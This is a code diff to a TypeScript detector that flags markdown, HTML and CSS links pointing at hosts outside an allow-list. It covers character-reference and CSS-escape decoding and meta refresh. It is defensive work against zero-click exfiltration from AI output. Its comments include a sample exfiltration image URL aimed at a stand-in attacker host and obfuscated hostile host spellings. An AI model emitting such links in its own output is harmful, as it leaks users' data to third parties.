@@ -2,10 +2,15 @@
 // allow-list — the zero-click exfiltration channel (EchoLeak-style `![](https://attacker/?q=<data>)`).
 // Recognised forms: inline images and links `![t](url "title")` / `[t](url)`, reference-style
 // `[t][id]`, `[t][]`, `[id]` with `[id]: url` definitions (the definition line is reported too),
-// autolinks `<https://…>`, HTML `<img src>`, `<a href>…</a>` and other fetching tags (iframe, script,
-// source, video, audio, link, object, embed, form). Optionally bare URLs. A finding spans the whole
-// markup, so redaction with style `remove` strips it. Scores: images and fetching tags 0.9, links
-// 0.6; +0.05 / +0.2 when the URL carries data (query string, fragment, or a long path segment).
+// autolinks `<https://…>`, HTML `<img src>`, `<a href>…</a>` and other fetching tags (iframe, frame,
+// script, source, video, audio, link, object, embed, form, input, track, SVG image and feImage, base,
+// meta refresh, the `background` of body and table parts), and CSS `url(…)` / `@import "…"` wherever
+// they appear (style attributes, style elements, SVG paint). Optionally bare URLs. Character references
+// (`&#58;`, `&#x3a;`, `&colon;` …) are decoded in HTML attribute values, markdown destinations and
+// before CSS is read, as browsers and CommonMark decode them; CSS escapes (`\3a `) in CSS values. A
+// finding spans the whole markup as written (a CSS finding the `url(…)` token), so redaction with style
+// `remove` strips it. Scores: images, fetching tags and CSS 0.9, links 0.6; +0.05 / +0.2 when the URL
+// carries data (query string, fragment, or a long path segment).
 import { compile, matchAll, matchAt, type Match } from '../../core/regex.ts';
 import type { DetectionContext, Detector, Finding } from '../../core/types.ts';
 
@@ -38,9 +43,20 @@ const INLINE_AT = compile('exfil/inline-at', INLINE_PATTERN, 'y');
 const REF_DEF = compile('exfil/refdef', `(?m)^[ ]{0,3}\\[([^\\]\\n]{1,200})\\]:[ \\t]{0,8}<?([^\\s<>]+)>?${TITLE}[ \\t]*$`);
 const REF_USE = compile('exfil/refuse', `(!?)\\[([^\\]\\n]{0,300})\\](?:\\[([^\\]\\n]{0,200})\\])?`);
 const AUTOLINK = compile('exfil/autolink', `<((?:https?|ftp)://[^\\s<>]+)>`, 'i');
-const HTML_TAGS = 'img|a|iframe|script|source|video|audio|link|object|embed|form|input|track|image';
+/**
+ * Tags that fetch (or, for `a`, offer) a URL named in an attribute. `base` redirects every relative URL
+ * after it; `meta` is a refresh (its `content`); body and the table parts fetch their `background`;
+ * feImage is SVG's filter image. hold.ts (openerPossible) reads the same list.
+ */
+export const HTML_TAG_NAMES: readonly string[] = [
+  'img', 'a', 'iframe', 'frame', 'script', 'source', 'video', 'audio', 'link', 'object', 'embed', 'form', 'input', 'track', 'image',
+  'feimage', 'base', 'meta', 'body', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'td', 'th',
+];
+const HTML_TAGS = HTML_TAG_NAMES.join('|');
 const A_CLOSE = compile('exfil/aclose', '^[^<]{0,1000}</a\\s*>', 'i');
 const ATTR = compile('exfil/attr', `\\b(src|href|action|data|poster|srcset|background|formaction)\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s>"']+))`, 'i');
+/** A meta tag's refresh: `http-equiv` and `content`, values as in ATTR. */
+const META_ATTR = compile('exfil/meta-attr', `\\b(http-equiv|content)\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s>"']+))`, 'i');
 /**
  * The reference patterns of the two scanners below (kept for the equivalence tests): the tag or URL
  * start is found by RE2 and the tail is measured with string scans (the scanners date from when the
@@ -162,18 +178,447 @@ export function bareUrlMatches(text: string): Match[] {
   return out;
 }
 
+// ------------------------------------------------------------------------------ character references
+
+/**
+ * Named character references that decode to ASCII characters (HTML's list has no others), the ones a
+ * URL's structure is made of among them: `&colon;` and `&sol;` for a scheme, `&period;`, `&quest;`,
+ * `&num;`, `&commat;`, `&bsol;` inside a host. A name not listed is left as written: in a host it keeps
+ * a '&' that no allow-list glob holds, and no other name yields a character that ends a scheme or host.
+ * Legacy names without ';' (`&amp` …) are not decoded: they only yield '&', '<', '>' and '"'.
+ */
+const NAMED_REFS = new Map<string, string>([
+  ['Tab', '\t'], ['NewLine', '\n'], ['excl', '!'], ['quot', '"'], ['QUOT', '"'], ['num', '#'], ['dollar', '$'], ['percnt', '%'],
+  ['amp', '&'], ['AMP', '&'], ['apos', "'"], ['lpar', '('], ['rpar', ')'], ['ast', '*'], ['midast', '*'], ['plus', '+'],
+  ['comma', ','], ['period', '.'], ['sol', '/'], ['colon', ':'], ['semi', ';'], ['lt', '<'], ['LT', '<'], ['equals', '='],
+  ['gt', '>'], ['GT', '>'], ['quest', '?'], ['commat', '@'], ['lsqb', '['], ['lbrack', '['], ['bsol', '\\'], ['rsqb', ']'],
+  ['rbrack', ']'], ['Hat', '^'], ['lowbar', '_'], ['UnderBar', '_'], ['grave', '`'], ['DiacriticalGrave', '`'], ['lcub', '{'],
+  ['lbrace', '{'], ['verbar', '|'], ['vert', '|'], ['VerticalLine', '|'], ['rcub', '}'], ['rbrace', '}'],
+]);
+const NAMED_MAX = 16; // "DiacriticalGrave"
+/** HTML maps numeric references 0x80–0x9F to windows-1252 (0: the code point itself). */
+const CP1252 = [
+  0x20ac, 0, 0x201a, 0x0192, 0x201e, 0x2026, 0x2020, 0x2021, 0x02c6, 0x2030, 0x0160, 0x2039, 0x0152, 0, 0x017d, 0,
+  0, 0x2018, 0x2019, 0x201c, 0x201d, 0x2022, 0x2013, 0x2014, 0x02dc, 0x2122, 0x0161, 0x203a, 0x0153, 0, 0x017e, 0x0178,
+];
+
+function isAsciiAlnum(c: number): boolean {
+  return (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122);
+}
+
+function hexValue(c: number): number {
+  if (c >= 48 && c <= 57) return c - 48;
+  const l = c | 0x20;
+  return l >= 97 && l <= 102 ? l - 87 : -1;
+}
+
+/** What a numeric reference to `v` decodes to in HTML. */
+function numericRef(v: number): string {
+  if (v === 0 || v > 0x10ffff || (v >= 0xd800 && v <= 0xdfff)) return '\ufffd';
+  if (v >= 0x80 && v <= 0x9f && CP1252[v - 0x80] !== 0) return String.fromCharCode(CP1252[v - 0x80]);
+  return String.fromCodePoint(v);
+}
+
+/**
+ * The character reference at s[i] ('&'), as an HTML attribute value reads it: `&#` decimal digits or
+ * `&#x` hex digits, the ';' optional (however many digits: the value saturates), or a listed name and
+ * ';'. CommonMark wants the ';' and at most 7 (6 hex) digits: reading more is the safe side (a
+ * lenient renderer may decode those too, and one that passes the URL on to HTML leaves it to a browser).
+ */
+function refAt(s: string, i: number): { end: number; value: string } | null {
+  const L = s.length;
+  let j = i + 1;
+  if (j >= L) return null;
+  const c = s.charCodeAt(j);
+  if (c === 0x23) {
+    j++;
+    const hex = j < L && (s.charCodeAt(j) | 0x20) === 0x78;
+    if (hex) j++;
+    const d0 = j;
+    let v = 0;
+    while (j < L) {
+      const d = hexValue(s.charCodeAt(j));
+      if (d < 0 || (!hex && d > 9)) break;
+      if (v <= 0x10ffff) v = v * (hex ? 16 : 10) + d;
+      j++;
+    }
+    if (j === d0) return null;
+    if (j < L && s.charCodeAt(j) === 0x3b) j++;
+    return { end: j, value: numericRef(v) };
+  }
+  let k = j;
+  while (k < L && k - j < NAMED_MAX && isAsciiAlnum(s.charCodeAt(k))) k++;
+  if (k === j || k >= L || s.charCodeAt(k) !== 0x3b) return null;
+  const v = NAMED_REFS.get(s.slice(j, k));
+  return v === undefined ? null : { end: k + 1, value: v };
+}
+
+/** A text with its character references decoded, and where each decoded unit came from. */
+export interface RefDecoded {
+  readonly text: string;
+  /**
+   * Offset in the original of each unit of `text` (a reference's units all map to its '&'), and the
+   * original's length at index text.length; null when nothing was decoded (text is the original).
+   */
+  readonly map: Int32Array | null;
+}
+
+/** Decodes the character references of `s` (refAt) in one pass; references are not decoded twice. */
+export function decodeCharRefs(s: string): RefDecoded {
+  let amp = s.indexOf('&');
+  if (amp < 0) return { text: s, map: null };
+  let map: Int32Array | null = null;
+  const parts: string[] = [];
+  let last = 0;
+  let n = 0;
+  for (; amp >= 0; amp = s.indexOf('&', amp + 1)) {
+    const r = refAt(s, amp);
+    if (r === null) continue;
+    map ??= new Int32Array(s.length + 1);
+    for (let k = last; k < amp; k++) map[n++] = k;
+    for (let u = 0; u < r.value.length; u++) map[n++] = amp;
+    parts.push(s.slice(last, amp), r.value);
+    last = r.end;
+    amp = r.end - 1;
+  }
+  if (map === null) return { text: s, map: null };
+  for (let k = last; k < s.length; k++) map[n++] = k;
+  map[n] = s.length;
+  parts.push(s.slice(last));
+  return { text: parts.join(''), map: map.subarray(0, n + 1) };
+}
+
+/** Original offset where decoded unit i starts (i <= text.length). */
+export function refStart(d: RefDecoded, i: number): number {
+  return d.map === null ? i : d.map[i];
+}
+
+/** Original offset where decoded text [·, j) ends: never inside a reference. */
+export function refEnd(d: RefDecoded, j: number): number {
+  const m = d.map;
+  if (m === null) return j;
+  const n = m.length - 1;
+  while (j > 0 && j < n && m[j] === m[j - 1]) j++; // second unit of a reference (a surrogate pair)
+  return m[j];
+}
+
+/**
+ * Start of a character reference still being written at the end of `t` — later text can change what
+ * it decodes to (`&#11` may become `&#114;`, `&co` `&colon;`) — or t.length. Numeric references take
+ * any number of digits; a name is open while it is a prefix of a listed one (the ';' still to come).
+ */
+export function openRefStart(t: string): number {
+  const L = t.length;
+  let i = L;
+  while (i > 0 && isAsciiAlnum(t.charCodeAt(i - 1))) i--;
+  if (i > 0 && t.charCodeAt(i - 1) === 0x26) {
+    if (i === L) return L - 1; // a lone '&'
+    const name = t.slice(i, L);
+    if (L - i <= NAMED_MAX && !(name.charCodeAt(0) >= 48 && name.charCodeAt(0) <= 57)) {
+      for (const k of NAMED_REFS.keys()) if (k.startsWith(name)) return i - 1;
+    }
+    return L;
+  }
+  if (i > 1 && t.charCodeAt(i - 1) === 0x23 && t.charCodeAt(i - 2) === 0x26) {
+    let k = i;
+    const hex = k < L && (t.charCodeAt(k) | 0x20) === 0x78;
+    if (hex) k++;
+    while (k < L && (hex ? hexValue(t.charCodeAt(k)) >= 0 : t.charCodeAt(k) >= 48 && t.charCodeAt(k) <= 57)) k++;
+    return k === L ? i - 2 : L;
+  }
+  return L;
+}
+
+// ------------------------------------------------------------------------------------------ CSS
+
+/** CSS whitespace (after preprocessing): space, tab, LF, CR, FF. */
+function isCssWs(c: number): boolean {
+  return c === 32 || c === 9 || c === 10 || c === 13 || c === 12;
+}
+
+/**
+ * A character that continues a CSS identifier before "url": then the function is another one
+ * (`myurl(`, `-url(`, `5url(`). A backslash is not counted: `\url(` is an escaped url( (found).
+ */
+function isCssIdent(c: number): boolean {
+  return isAsciiAlnum(c) || c === 45 || c === 95 || c >= 0x80;
+}
+
+/** Decodes CSS escapes: `\` and 1–6 hex digits (and one whitespace after them), `\` and a character. */
+export function cssUnescape(v: string): string {
+  let b = v.indexOf('\\');
+  if (b < 0) return v;
+  let out = '';
+  let i = 0;
+  for (; b >= 0; b = v.indexOf('\\', i)) {
+    out += v.slice(i, b);
+    const k = b + 1;
+    if (k >= v.length) {
+      i = k;
+      break;
+    }
+    const c = v.charCodeAt(k);
+    if (hexValue(c) >= 0) {
+      let m = k;
+      let cp = 0;
+      while (m < v.length && m - k < 6 && hexValue(v.charCodeAt(m)) >= 0) cp = cp * 16 + hexValue(v.charCodeAt(m++));
+      out += cp === 0 || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff) ? '\ufffd' : String.fromCodePoint(cp);
+      if (m < v.length && isCssWs(v.charCodeAt(m))) m += v.charCodeAt(m) === 13 && v.charCodeAt(m + 1) === 10 ? 2 : 1;
+      i = m;
+    } else if (c === 10 || c === 12) i = k + 1; // an escaped line break (in a string): nothing
+    else if (c === 13) i = k + (v.charCodeAt(k + 1) === 10 ? 2 : 1);
+    else {
+      out += v[k];
+      i = k + 1;
+    }
+  }
+  return out + v.slice(i);
+}
+
+/** One CSS construct that names a URL: `url(…)`, or `@import` and a string. */
+export interface CssMatch {
+  /** The 'u' of url( or the '@' of @import. */
+  readonly start: number;
+  /** After the ')' (or after the value when there is none), after the string of an @import. */
+  readonly end: number;
+  readonly valueStart: number;
+  readonly valueEnd: number;
+  readonly kind: 'url' | 'import';
+  /** It reads the end of the text: more text can change its value or its end (a stream holds it). */
+  readonly open: boolean;
+}
+
+const OPEN_ESCAPE = -1;
+const BAD_ESCAPE = -2;
+
+/** End of the CSS escape at t[j] ('\') in an unquoted url(), OPEN_ESCAPE if it reaches the end, BAD_ESCAPE for `\` and a line break. */
+function escapeEnd(t: string, j: number): number {
+  const L = t.length;
+  const k = j + 1;
+  if (k >= L) return OPEN_ESCAPE;
+  const c = t.charCodeAt(k);
+  if (c === 10 || c === 13 || c === 12) return BAD_ESCAPE;
+  if (hexValue(c) < 0) return k + 1;
+  let m = k;
+  while (m < L && m - k < 6 && hexValue(t.charCodeAt(m)) >= 0) m++;
+  if (m >= L) return OPEN_ESCAPE; // more digits, or the whitespace that ends them, may follow
+  if (isCssWs(t.charCodeAt(m))) {
+    if (t.charCodeAt(m) !== 13) return m + 1;
+    if (m + 1 >= L) return OPEN_ESCAPE;
+    return t.charCodeAt(m + 1) === 10 ? m + 2 : m + 1;
+  }
+  return m;
+}
+
+/**
+ * A CSS string from its quote at t[i]: the index of the closing quote, of the line break that ends it
+ * unclosed (negated and minus one), or L when it runs to the end of the text. Escapes are skipped.
+ */
+function cssStringEnd(t: string, i: number): number {
+  const L = t.length;
+  const q = t.charCodeAt(i);
+  let j = i + 1;
+  while (j < L) {
+    const c = t.charCodeAt(j);
+    if (c === q) return j;
+    if (c === 10 || c === 13 || c === 12) return -j - 1;
+    if (c === 0x5c) j += t.charCodeAt(j + 1) === 13 && t.charCodeAt(j + 2) === 10 ? 3 : 2;
+    else j++;
+  }
+  return L;
+}
+
+/**
+ * The url( token whose '(' is at p - 1 and 'u' at start. Its value is a string, or runs up to
+ * whitespace, a parenthesis, a quote or an angle bracket (the end of a tag or of an attribute value:
+ * CSS fetches a url() that its attribute cuts short); the token ends after a ')' that follows the value
+ * (whitespace between), else after the value. null: an empty value.
+ */
+function urlToken(t: string, start: number, p: number): CssMatch | null {
+  const L = t.length;
+  let i = p;
+  while (i < L && isCssWs(t.charCodeAt(i))) i++;
+  if (i >= L) return { start, end: L, valueStart: L, valueEnd: L, kind: 'url', open: true };
+  const q = t.charCodeAt(i);
+  let valueStart = i;
+  let valueEnd: number;
+  if (q === 0x22 || q === 0x27) {
+    const e = cssStringEnd(t, i);
+    valueStart = i + 1;
+    if (e >= L) return { start, end: L, valueStart, valueEnd: L, kind: 'url', open: true };
+    if (e < 0) return { start, end: -e - 1, valueStart, valueEnd: -e - 1, kind: 'url', open: false }; // unclosed at a line break
+    valueEnd = e;
+    i = e + 1;
+  } else {
+    let j = i;
+    for (;;) {
+      if (j >= L) return { start, end: L, valueStart, valueEnd: L, kind: 'url', open: true };
+      const c = t.charCodeAt(j);
+      if (isCssWs(c) || c === 0x28 || c === 0x29 || c === 0x22 || c === 0x27 || c === 0x3c || c === 0x3e) break;
+      if (c === 0x5c) {
+        const e = escapeEnd(t, j);
+        if (e === OPEN_ESCAPE) return { start, end: L, valueStart, valueEnd: L, kind: 'url', open: true };
+        if (e === BAD_ESCAPE) break;
+        j = e;
+      } else j++;
+    }
+    if (j === i) return null;
+    valueEnd = j;
+    i = j;
+  }
+  let k = i;
+  while (k < L && isCssWs(t.charCodeAt(k))) k++;
+  if (k >= L) return { start, end: i, valueStart, valueEnd, kind: 'url', open: true };
+  return { start, end: t.charCodeAt(k) === 0x29 ? k + 1 : i, valueStart, valueEnd, kind: 'url', open: false };
+}
+
+const IMPORT = 'import';
+
+/**
+ * CSS `url(…)` tokens (`url` in any case, not continuing an identifier) and `@import` followed by
+ * whitespace or comments and a string, in a text read as CSS wherever it is; and `open`, the smallest
+ * index from which later text could add or change one (an open construct, or "u", "ur", "url", "@imp"
+ * … at the very end), else t.length. Every url( is read on its own (a value cannot hold '(', so two
+ * unquoted values never overlap; a string ends at the next quote of its kind, so two strings of one
+ * kind never overlap: each character is read a bounded number of times); an @import found inside what
+ * an earlier one read (its comment or string) is skipped. Single pass, linear.
+ */
+export function cssMatches(t: string): { matches: CssMatch[]; open: number } {
+  const L = t.length;
+  const matches: CssMatch[] = [];
+  let open = L;
+  for (let p = t.indexOf('(', 3); p >= 0; p = t.indexOf('(', p + 1)) {
+    if ((t.charCodeAt(p - 1) | 0x20) !== 0x6c || (t.charCodeAt(p - 2) | 0x20) !== 0x72 || (t.charCodeAt(p - 3) | 0x20) !== 0x75) continue;
+    if (p >= 4 && isCssIdent(t.charCodeAt(p - 4))) continue;
+    const m = urlToken(t, p - 3, p + 1);
+    if (m === null) continue;
+    matches.push(m);
+    if (m.open && m.start < open) open = m.start;
+  }
+  // "u", "ur" or "url" at the very end may become url(.
+  for (let n = 1; n <= 3 && n <= L; n++) {
+    const s = L - n;
+    let prefix = true;
+    for (let k = 0; k < n && prefix; k++) prefix = (t.charCodeAt(s + k) | 0x20) === 'url'.charCodeAt(k);
+    if (prefix && !(s > 0 && isCssIdent(t.charCodeAt(s - 1))) && s < open) open = s;
+  }
+  let readEnd = 0;
+  let imports = false;
+  for (let a = t.indexOf('@'); a >= 0; a = t.indexOf('@', a + 1)) {
+    if (a < readEnd) continue;
+    let k = a + 1;
+    while (k < L && k - a - 1 < 6 && (t.charCodeAt(k) | 0x20) === IMPORT.charCodeAt(k - a - 1)) k++;
+    if (k >= L) {
+      if (a < open) open = a; // "@", "@imp", "@import" at the end
+      break;
+    }
+    if (k - a - 1 < 6 || isCssIdent(t.charCodeAt(k))) continue; // not @import (or @imports …)
+    // Whitespace and comments, then a string.
+    for (;;) {
+      while (k < L && isCssWs(t.charCodeAt(k))) k++;
+      if (k < L && t.charCodeAt(k) === 0x2f && (k + 1 >= L || t.charCodeAt(k + 1) === 0x2a)) {
+        const close = k + 1 >= L ? -1 : t.indexOf('*/', k + 2);
+        if (close < 0) {
+          k = L;
+          break;
+        }
+        k = close + 2;
+      } else break;
+    }
+    if (k >= L) {
+      // Still in whitespace or a comment: reported (empty) so that one longer than LINK_HOLD is cut.
+      matches.push({ start: a, end: L, valueStart: L, valueEnd: L, kind: 'import', open: true });
+      imports = true;
+      if (a < open) open = a;
+      break;
+    }
+    const q = t.charCodeAt(k);
+    if (q !== 0x22 && q !== 0x27) {
+      readEnd = k + 1;
+      continue;
+    }
+    const e = cssStringEnd(t, k);
+    if (e >= L) {
+      matches.push({ start: a, end: L, valueStart: k + 1, valueEnd: L, kind: 'import', open: true });
+      imports = true;
+      if (a < open) open = a;
+      break;
+    }
+    const end = e < 0 ? -e - 1 : e + 1;
+    matches.push({ start: a, end, valueStart: k + 1, valueEnd: e < 0 ? -e - 1 : e, kind: 'import', open: false });
+    imports = true;
+    readEnd = end;
+  }
+  if (imports) matches.sort((x, y) => x.start - y.start);
+  return { matches, open };
+}
+
+/**
+ * The refresh URL of a meta tag's `content` (HTML's declarative refresh: a time, then ';' or ',' and
+ * the URL, optionally after "url=" and in quotes), or null.
+ */
+function refreshUrl(content: string): string | null {
+  const L = content.length;
+  let i = 0;
+  const ws = (c: number): boolean => isCssWs(c);
+  while (i < L && ws(content.charCodeAt(i))) i++;
+  const t0 = i;
+  while (i < L && ((content.charCodeAt(i) >= 48 && content.charCodeAt(i) <= 57) || content.charCodeAt(i) === 46)) i++;
+  if (i === t0) return null;
+  while (i < L && ws(content.charCodeAt(i))) i++;
+  if (i < L && (content.charCodeAt(i) === 59 || content.charCodeAt(i) === 44)) i++;
+  while (i < L && ws(content.charCodeAt(i))) i++;
+  if (i >= L) return null;
+  if (content.slice(i, i + 3).toLowerCase() === 'url') {
+    let k = i + 3;
+    while (k < L && ws(content.charCodeAt(k))) k++;
+    if (content.charCodeAt(k) === 61) {
+      i = k + 1;
+      while (i < L && ws(content.charCodeAt(i))) i++;
+    }
+  }
+  const q = content[i];
+  if (q === '"' || q === "'") {
+    const e = content.indexOf(q, i + 1);
+    return content.slice(i + 1, e < 0 ? L : e);
+  }
+  return content.slice(i);
+}
+
+/** Up to the first whitespace (a srcset candidate's URL). */
+function firstWord(x: string): string {
+  const s = x.trim();
+  let i = 0;
+  while (i < s.length && !isCssWs(s.charCodeAt(i))) i++;
+  return s.slice(0, i);
+}
+
+/**
+ * An attribute value as a URL: decoded, and when it starts with a quote (an iframe's `srcdoc` writes
+ * the quotes of its own document as references) what that quote encloses.
+ */
+function attrUrl(raw: string): string {
+  const v = raw.includes('&') ? decodeCharRefs(raw).text : raw;
+  const s = v.trimStart();
+  const q = s[0];
+  if (q !== '"' && q !== "'") return v;
+  const e = s.indexOf(q, 1);
+  return s.slice(1, e < 0 ? s.length : e);
+}
+
 const OPEN_ATTR = compile('exfil/open-attr', '\\b(?:src|href|action|data|poster|srcset|background|formaction)\\s*=\\s*', 'i');
 
 /**
  * A markdown link or image, or a fetching HTML tag, still open at the end of `text` and longer than
- * LINK_HOLD, whose URL (as far as it goes) points at a host `verdict` does not allow: where it starts,
+ * LINK_HOLD, whose URL (as far as it goes) points at a host the verdict (`verdict` for markdown,
+ * `htmlVerdict` for an attribute value) does not allow: where it starts,
  * or null. In a stream that is a link longer than the hold-back: the engine must release text more
  * than LINK_HOLD behind the input, and releasing the link's start would let the client render it once
  * the rest arrived. The scan reports [start, end - LINK_HOLD), which the engine can decide, so the
  * opener is removed and what follows is released as plain URL characters (streams stay within their
  * hold-back). In a whole text it is broken markup at its very end, treated the same way.
  */
-function openLinkAtEnd(text: string, verdict: (url: string) => { data: boolean } | null): { start: number; image: boolean; data: boolean; what: string } | null {
+function openLinkAtEnd(text: string, verdict: Verdict, htmlVerdict: Verdict): { start: number; image: boolean; data: boolean; what: string } | null {
   const L = text.length;
   // Markdown: the last "](" whose URL runs to the end.
   const close = text.lastIndexOf('](');
@@ -214,7 +659,7 @@ function openLinkAtEnd(text: string, verdict: (url: string) => { data: boolean }
         const from = q === '"' || q === "'" ? a.end + 1 : a.end;
         let to = from;
         while (to < tag.length && (q === '"' || q === "'" ? tag[to] !== q : !bareStop(tag.charCodeAt(to)))) to++;
-        const v = verdict(tag.slice(from, to));
+        const v = htmlVerdict(tag.slice(from, to));
         if (v !== null && (worst === null || v.data)) worst = v;
       }
       if (worst !== null) {
@@ -250,16 +695,24 @@ function hostMatcher(globs: readonly string[]): HostMatcher {
   };
 }
 
-/** Host of an absolute or protocol-relative URL with a fetchable scheme, or null (relative, data:, mailto: …). */
+type Verdict = (url: string) => { data: boolean } | null;
+
+/** Base that relative URLs are resolved against: a reserved name no URL of another host resolves to. */
+const RELATIVE_BASE = 'https://relative.invalid/';
+
+/**
+ * Host of an absolute or protocol-relative URL with a fetchable scheme, or null (relative, data:,
+ * mailto: …). A URL that is not absolute is resolved as a page would resolve it: what leaves the page's
+ * host is protocol-relative however it is spelled (`//h`, `/\h`, `\\h`, `/<TAB>/h`: a URL parser treats
+ * '\' as '/' and drops tabs and newlines).
+ */
 export function externalHost(raw: string): { host: string; data: boolean } | null {
   let s = raw.trim();
   if (s.startsWith('<') && s.endsWith('>')) s = s.slice(1, -1);
-  if (s.startsWith('//')) s = 'https:' + s;
-  let u: URL;
-  try {
-    u = new URL(s);
-  } catch {
-    return null;
+  let u = URL.parse(s);
+  if (u === null) {
+    u = URL.parse(s, RELATIVE_BASE);
+    if (u === null || u.host === 'relative.invalid') return null;
   }
   if (u.protocol !== 'http:' && u.protocol !== 'https:' && u.protocol !== 'ftp:' && u.protocol !== 'ws:' && u.protocol !== 'wss:') return null;
   if (u.hostname.length === 0) return null;
@@ -270,11 +723,26 @@ export function externalHost(raw: string): { host: string; data: boolean } | nul
 export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
   const hosts = hostMatcher(cfg.allowedHosts ?? []);
   const imagesOnly = cfg.imagesOnly ?? false;
-  const verdict = (url: string): { data: boolean } | null => {
+  // As written: autolinks (CommonMark decodes no references there) and bare URLs.
+  const verdict: Verdict = (url) => {
     const h = externalHost(url);
     if (h === null || hosts.allowed(h.host)) return null;
     return { data: h.data };
   };
+  // An HTML attribute value: a browser decodes its references, always.
+  const htmlVerdict: Verdict = (url) => verdict(attrUrl(url));
+  // A markdown destination or CSS: decoded (CommonMark, a style attribute), and as written for a
+  // renderer or a style element that decodes nothing. As written, a host that keeps a '&' of a
+  // reference (`evil&#46;example` reads as host "evil&", the rest a fragment) names no host anyone
+  // can reach: it is only looked at decoded (so an allowed host written with references stays allowed).
+  const eitherVerdict = (url: string, unescape: (s: string) => string = (x) => x): { data: boolean } | null => {
+    if (!url.includes('&')) return verdict(unescape(url));
+    const d = verdict(unescape(decodeCharRefs(url).text));
+    const h = externalHost(unescape(url));
+    const r = h === null || h.host.includes('&') || hosts.allowed(h.host) ? null : { data: h.data };
+    return d === null ? r : r === null ? d : { data: d.data || r.data };
+  };
+  const mdVerdict: Verdict = (url) => eitherVerdict(url);
   return {
     id: cfg.id,
     maxMatchLength: LINK_HOLD,
@@ -283,18 +751,22 @@ export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
       if (text.length === 0) return [];
       const out: Finding[] = [];
       // Coverage bitmap: a piece of markup already accounted for is not re-read by a later pass.
-      // Allocated on first use (most texts hold no markup at all).
+      // Allocated on first use (most texts hold no markup at all). 1: an allowed markdown link (its
+      // text is not re-read as a reference, nor as a bare URL); 2: a finding. HTML tags, autolinks and
+      // CSS inside an allowed link's text are still read: a renderer that passes HTML through renders
+      // `[<img src="https://h/x">](https://allowed/)` as an image inside the link.
       let covered: Uint8Array | null = null;
-      const overlaps = (s: number, e: number): boolean => {
+      const overlaps = (s: number, e: number, level = 1): boolean => {
         const c = covered;
         if (c === null) return false;
-        for (let i = s; i < e; i++) if (c[i] === 1) return true;
+        for (let i = s; i < e; i++) if (c[i] >= level) return true;
         return false;
       };
       const taken = {
-        push: ([s, e]: [number, number]): void => {
+        push: ([s, e]: [number, number], level = 1): void => {
           covered ??= new Uint8Array(text.length);
-          covered.fill(1, s, e);
+          if (level === 2) covered.fill(2, s, e);
+          else for (let i = s; i < e; i++) if (covered[i] === 0) covered[i] = 1;
         },
       };
       const push = (start: number, end: number, image: boolean, data: boolean, what: string): void => {
@@ -302,22 +774,32 @@ export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
         const base = image ? 0.9 : 0.6;
         const score = Math.round(Math.min(1, base + (data ? (image ? 0.05 : 0.2) : 0)) * 100) / 100;
         out.push({ detector: cfg.id, type: 'EXFIL_LINK', start, end, score, explanation: `${what}${data ? ', url carries data' : ''}, host not allowed` });
-        taken.push([start, end]);
+        taken.push([start, end], 2);
       };
       // Every markdown form has a ']'; an inline link or image has "](" (INLINE cannot match without it).
-      if (text.includes(']')) {
-        for (const m of text.includes('](') ? inlineMatches(text) : []) {
-          const v = verdict(m.groups[1] ?? m.groups[2] ?? '');
+      // One pass over the ']'s tells whether a "](" and a "]:" occur (two more passes cost what the CSS
+      // pass below costs).
+      const bracket = text.indexOf(']');
+      let inline = false;
+      let def = false;
+      for (let r = bracket; r >= 0 && !(inline && def); r = text.indexOf(']', r + 1)) {
+        const c = text.charCodeAt(r + 1);
+        if (c === 0x28) inline = true;
+        else if (c === 0x3a) def = true;
+      }
+      if (bracket >= 0) {
+        for (const m of inline ? inlineMatches(text) : []) {
+          const v = mdVerdict(m.groups[1] ?? m.groups[2] ?? '');
           if (v !== null) push(m.start, m.end, m.groups[0] === '!', v.data, m.groups[0] === '!' ? 'markdown image' : 'markdown link');
           else taken.push([m.start, m.end]); // allowed: its text must not be re-read as a reference
         }
         // Reference-style: collect definitions, then usages whose label points at a bad definition.
         const bad = new Map<string, { data: boolean }>();
         const defs: { start: number; end: number; label: string; data: boolean }[] = [];
-        if (text.includes(']:')) {
+        if (def) {
           for (const m of matchAll(REF_DEF, text)) {
             const label = (m.groups[0] ?? '').trim().toLowerCase();
-            const v = verdict(m.groups[1] ?? '');
+            const v = mdVerdict(m.groups[1] ?? '');
             if (v === null) continue;
             bad.set(label, v);
             defs.push({ start: m.start, end: m.end, label, data: v.data });
@@ -341,22 +823,34 @@ export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
       }
       if (text.includes('<')) {
         for (const m of matchAll(AUTOLINK, text)) {
-          if (overlaps(m.start, m.end)) continue;
+          if (overlaps(m.start, m.end, 2)) continue;
           const v = verdict(m.groups[0] ?? '');
           if (v !== null) push(m.start, m.end, false, v.data, 'autolink');
         }
         for (const m of htmlTagMatches(text)) {
-          if (overlaps(m.start, m.end)) continue;
+          if (overlaps(m.start, m.end, 2)) continue;
           const tag = (m.groups[0] ?? '').toLowerCase();
           const tagText = text.slice(m.start, m.end);
           let worst: { data: boolean } | null = null;
           for (const a of matchAll(ATTR, tagText)) {
-            const val = a.groups[1] ?? a.groups[2] ?? a.groups[3] ?? '';
-            const urls = (a.groups[0] ?? '').toLowerCase() === 'srcset' ? val.split(',').map((x) => x.trim().split(' ')[0]) : [val];
+            const val = attrUrl(a.groups[1] ?? a.groups[2] ?? a.groups[3] ?? '');
+            const urls = (a.groups[0] ?? '').toLowerCase() === 'srcset' ? val.split(',').map(firstWord) : [val];
             for (const u of urls) {
               const v = verdict(u);
               if (v !== null && (worst === null || v.data)) worst = v;
             }
+          }
+          if (tag === 'meta') {
+            let refresh = false;
+            let content: string | null = null;
+            for (const a of matchAll(META_ATTR, tagText)) {
+              const val = attrUrl(a.groups[1] ?? a.groups[2] ?? a.groups[3] ?? '');
+              if ((a.groups[0] ?? '').toLowerCase() === 'content') content ??= val;
+              else refresh ||= val.trim().toLowerCase() === 'refresh';
+            }
+            const url = refresh && content !== null ? refreshUrl(content) : null;
+            const v = url === null ? null : verdict(url);
+            if (v !== null && (worst === null || v.data)) worst = v;
           }
           if (worst === null) continue;
           let end = m.end;
@@ -367,6 +861,27 @@ export function createExfilLinksDetector(cfg: ExfilConfig): Detector {
